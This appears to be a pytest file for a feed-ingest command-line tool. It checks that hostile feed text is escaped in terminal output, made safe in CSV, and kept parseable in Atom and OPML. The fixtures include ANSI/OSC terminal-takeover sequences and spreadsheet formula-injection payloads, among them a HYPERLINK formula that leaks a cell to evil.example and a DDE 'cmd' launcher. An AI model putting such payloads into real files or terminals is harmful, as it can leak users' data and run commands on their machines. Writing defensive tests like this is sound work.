"""Issue 25: untrusted text reaches no terminal as control, no spreadsheet as a formula, no XML reader as garbage.

A hostile JSON Feed (tests/fixtures/hostile-output) is fetched from a loopback server into a real store
with `ingest fetch`; one more item is written straight into the store with the raw hostile text, so that
the printer and the writers are tested on their own, whatever cleaning happens when text is stored.
Every output is then checked byte by byte. Terminal formats are run with `color=True`: click then keeps
ANSI sequences as a terminal would get them, instead of stripping them as it does for a pipe.
"""

from __future__ import annotations

import csv
import io
import json
import re
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

from ingest import alerts
from ingest import config as config_mod
from ingest.cli import main
from ingest.opml import OpmlSource, to_opml
from ingest.server import Heartbeat, Listener, Metrics
from ingest.storage.store import Store
from ingest.storage.tables import HitRow, ItemRow
from ingest.text import clean_text
from tests.helpers.servers import LocalServer

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "hostile-output" / "feed.json"
ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
TAKEOVER = f"{ESC}]0;pwned{BEL}{ESC}[2J{ESC}[31m"
RAW_TITLE = f"{TAKEOVER}Raw CSTO title {BEL}{CSI}31m"
FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"CSTO click")', "+cmd|' /C calc'!A0 CSTO", "@SUM(1) CSTO"]
# What must never reach a terminal: C0 controls but tab and newline, DEL, C1 controls.
TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path, db_url):
    with LocalServer() as srv:
        srv.route("/feed.json", FIXTURE.read_bytes(), headers={"Content-Type": "application/feed+json"})
        config = tmp_path / "config.toml"
        config.write_text(
            f'[database]\nurl = "{db_url}"\n\n[fetch]\nallow_private_networks = true\npages = false\ntimeout = 10\n\n'
            f'[[sources]]\nname = "hostile"\nurl = "{srv.url("/feed.json")}"\n\n'
            '[[watchlists]]\nname = "csto"\nterms = ["CSTO"]\natom = "feeds/csto.xml"\n', encoding="utf-8")
        runner = CliRunner()
        fetched = runner.invoke(main, ["--config", str(config), "fetch"])
        assert fetched.exit_code == 0, fetched.output
        assert "hostile: 5 new" in fetched.stdout
    store = Store(db_url)
    now = datetime.now(timezone.utc)
    text = f"The CSTO said {TAKEOVER}red {BEL}bell {CSI}2J."
    with store.writing() as w:
        raw_id = w.add(
            ItemRow(source="hostile", url=f"http://127.0.0.1/raw?{ESC}[31m", title=RAW_TITLE, published=now,
                    fetched_at=now, sort_time=now, authors=[f"{ESC}]0;author{BEL}"], site_name=f"Site{BEL}", text=text,
                    blocks=[{"kind": "paragraph", "text": text}, {"kind": "heading", "text": f"=1+1{ESC}[2J"}]),
            [("url", "127.0.0.1/raw")],
            [HitRow(watchlist="csto", version="v", term="CSTO", field="title", block=0, start=0, end=4, text="CSTO",
                    snippet=f"[[CSTO]] {TAKEOVER}")])
    yield config, store, raw_id
    store.close()


def run(config: Path, *args: str, terminal: bool = False) -> bytes:
    result = CliRunner().invoke(main, ["--config", str(config), *args], color=terminal)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def assert_terminal_safe(out: bytes) -> str:
    text = out.decode("utf-8")
    assert not TERMINAL_UNSAFE.search(text), TERMINAL_UNSAFE.findall(text)
    return text


def test_terminal_outputs_show_controls_instead_of_sending_them(hostile):
    config, store, raw_id = hostile
    ids = [i["id"] for i in json.loads(run(config, "query", "--format", "json"))]
    assert raw_id in ids and len(ids) == 6
    table = assert_terminal_safe(run(config, "query", terminal=True))
    assert "\\x1b]0;pwned\\x07" in table  # shown, not obeyed
    for item_id in ids:
        assert_terminal_safe(run(config, "show", str(item_id), terminal=True))
        assert_terminal_safe(run(config, "explain", str(item_id), terminal=True))
    shown = assert_terminal_safe(run(config, "show", str(raw_id), terminal=True))
    assert "\\x1b[2J" in shown and "\\x9b2J" in shown and "\\x1b]0;author\\x07" in shown
    for args in (("sources",), ("stats",), ("watchlists",), ("query", "--search", "CSTO"),
                 ("watchlists", "test", "csto", f"CSTO {TAKEOVER}")):
        assert_terminal_safe(run(config, *args, terminal=True))


def test_data_outputs_are_exact_and_safe_to_open(hostile):
    config, store, raw_id = hostile
    # JSON carries the exact stored text, every control (C1 too) as a JSON escape, in a pipe as on a terminal.
    for args in (("query", "--format", "json"), ("query", "--format", "jsonl"), ("show", str(raw_id), "--format", "json"),
                 ("export",), ("stats", "--format", "json")):
        piped, tty = run(config, *args), run(config, *args, terminal=True)
        assert piped == tty
        assert_terminal_safe(piped)
    record = json.loads(run(config, "show", str(raw_id), "--format", "json"))
    assert record["title"] == RAW_TITLE
    lines = [json.loads(line) for line in run(config, "query", "--format", "jsonl").splitlines()]
    assert RAW_TITLE in [d["title"] for d in lines]
    exported = [json.loads(line) for line in run(config, "export").splitlines()]
    assert RAW_TITLE in [d["title"] for d in exported] and len(exported) == 6
    for command in ("query", "export"):
        safe = run(config, command, "--format", "csv")
        rows = list(csv.reader(io.StringIO(safe.decode("utf-8"), newline="")))
        assert len(rows) == 7
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
        raw = run(config, command, "--format", "csv", "--csv-raw")
        raw_rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
        titles = [r["title"] for r in raw_rows]
        assert RAW_TITLE in titles  # exact, though click would strip `ESC [31m` from a pipe
        assert all(f in titles for f in FORMULAS)
        assert raw == run(config, command, "--format", "csv", "--csv-raw", terminal=True)


def atom_entries(xml: bytes) -> list[etree._Element]:
    feed = etree.fromstring(xml)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert feed.tag == "{http://www.w3.org/2005/Atom}feed" and feed.findtext("a:title", namespaces=ns)
    return feed.findall("a:entry", ns)


def test_every_xml_output_parses(hostile, tmp_path):
    config, store, raw_id = hostile
    ns = {"a": "http://www.w3.org/2005/Atom"}
    exported = atom_entries(run(config, "export", "--format", "atom"))
    assert len(exported) == 6
    raw = next(e for e in exported if e.findtext("a:id", namespaces=ns) == f"urn:ingest:item:{raw_id}")
    assert raw.findtext("a:title", namespaces=ns) == clean_text(RAW_TITLE)  # the one cleaner: XML's and terminals' controls
    assert raw.findtext("a:author/a:name", namespaces=ns) == "]0;author"
    assert [c.get("term") for c in raw.findall("a:category", ns)] == ["csto"]
    assert "=1+1[2J" in raw.findtext("a:content", namespaces=ns)
    assert raw.findtext("a:published", namespaces=ns)
    watched = atom_entries(run(config, "export", "--format", "atom", "--watchlist", "csto"))
    assert len(watched) == 6
    assert etree.fromstring(run(config, "export", "--format", "atom", "--watchlist", "csto")).findtext(
        "a:title", namespaces=ns) == "ingest: watchlist csto"

    cfg = config_mod.load(config)
    assert alerts.AtomFiles(store, cfg.outputs).refresh() == 1
    assert len(atom_entries((tmp_path / "feeds" / "csto.xml").read_bytes())) == 6

    listener = Listener(("127.0.0.1", 0), Metrics(), Heartbeat(), store.engine,
                        atom=alerts.feed_of(store, ["csto"])).start()
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{listener.port}/watchlists/csto.atom", timeout=10) as r:
            served = r.read()
    finally:
        listener.close()
    assert len(atom_entries(served)) == 6

    opml = etree.fromstring(to_opml([OpmlSource(name=f"bad{BEL}{ESC}[2Jname", xml_url=f"http://x/{ESC}"),
                                     OpmlSource(name="ok", xml_url="http://y/")]).encode())
    assert [o.get("text") for o in opml.iter("outline")] == ["bad[2Jname", "ok"]
    etree.fromstring(run(config, "sources", "export"))


def test_sources_export_with_a_control_character_in_a_name(tmp_path):
    """Exported as XML without it, or refused by the config's name rule: never a traceback."""
    config = tmp_path / "config.toml"
    config.write_text('[[sources]]\nname = "bad\\u0007name"\nurl = "https://example.org/f.xml"\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["--config", str(config), "sources", "export"])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    if result.exit_code == 0:
        assert [o.get("text") for o in etree.fromstring(result.stdout_bytes).iter("outline")] == ["badname"]
    else:
        assert result.exit_code == 2 and len(result.stderr.splitlines()) == 1
